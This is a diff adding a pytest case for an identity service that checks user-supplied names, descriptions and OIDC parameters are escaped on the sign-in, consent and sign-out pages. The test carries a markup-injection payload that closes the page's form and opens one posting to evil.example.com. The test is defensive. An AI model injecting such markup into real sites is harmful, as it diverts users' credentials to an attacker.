@@ -2,12 +2,17 @@
 
 from __future__ import annotations
 
+from html.parser import HTMLParser
 from urllib.parse import urlencode, urlsplit
 
+import httpx2 as httpx
 import pytest
+from markupsafe import escape
 
+from identity_common.identifiers import new_id
 from identity_common.pages.cookies import Cookies
-from tests.support.at_a_browser import PASSWORD, Form, Person, callback, heading, is_signed_in
+from tests.support.at_a_browser import PASSWORD, Form, Person, application, callback, heading, is_signed_in
+from tests.support.authorizing import REDIRECT_URI
 from tests.support.world import Client, World
 from token_service.sign_in.pages.cookies import SESSION
 
@@ -140,3 +145,56 @@ class TestFrames:
             assert page.headers["Content-Type"].startswith("text/html")
             assert page.headers["X-Frame-Options"] == "DENY"
             assert "frame-ancestors 'none'" in page.headers["Content-Security-Policy"].split("; ")
+
+
+class Targets(HTMLParser):
+    """Where the forms of a page are sent, by ``action`` or ``formaction``."""
+
+    def __init__(self, page: httpx.Response) -> None:
+        super().__init__()
+        self.found: list[str] = []
+        self.feed(page.text)
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.found += [value or "" for name, value in attrs if name in {"action", "formaction"}]
+
+
+class TestInjectedForms:
+    """No policy restricts where the forms of these pages are sent (decision 30), so markup must not get into them."""
+
+    def test_whatever_things_are_called_forms_are_sent_to_us(self, world: World, victim: Person) -> None:
+        hostile = "'\"></textarea></p></form><form action=//evil.example.com><button formaction=//evil.example.com>"
+        name = hostile[:128]
+        scope, permission = f"read:{new_id()}", f"pay:{new_id()}"
+        api = world.management
+        api.users.update(victim.user_id, name=name)
+        resource = api.resources.create(name, f"https://{new_id()}.example.com")
+        api.resources.create_scope(resource.id, scope, hostile)
+        api.organization_permissions.create(permission, hostile)
+        for _ in range(3):
+            organization = api.organizations.create(name).id
+            api.organizations.add_users(organization, [victim.user_id])
+        world.caught_up()
+        client = application(world, "SPA", third_party=True, name=name)
+        asked = victim.authorize(
+            client,
+            scope=f"openid {scope} urn:service:scope:organizations {permission}",
+            resource=resource.indicator,
+            login_hint=hostile,
+            ui_locales=hostile,
+        )
+        sign_in = victim.follow(asked)
+        wrong = victim.send(sign_in, identifier=hostile, password="wrong")
+        consent = victim.follow(victim.sign_in(sign_in))
+        leaving = {"client_id": client.id, "post_logout_redirect_uri": f"{REDIRECT_URI}/bye", "state": hostile}
+        sign_out = victim.browser.get("/oidc/session/end", params=leaving)
+        pages = [sign_in, wrong, consent, sign_out]
+        assert [heading(page) for page in pages] == ["Sign in", "Sign in", "Allow access?", "Sign out?"]
+        assert all(str(escape(name)) in page.text for page in pages)
+        at = f"?client_id={client.id}"
+        assert [Targets(page).found for page in pages] == [
+            [f"/sign-in{at}", f"/sign-in/cancel{at}"],
+            [f"/sign-in{at}", f"/sign-in/cancel{at}"],
+            [f"/consent{at}", f"/consent/switch{at}", f"/consent{at}"],
+            ["/oidc/session/end"],
+        ]
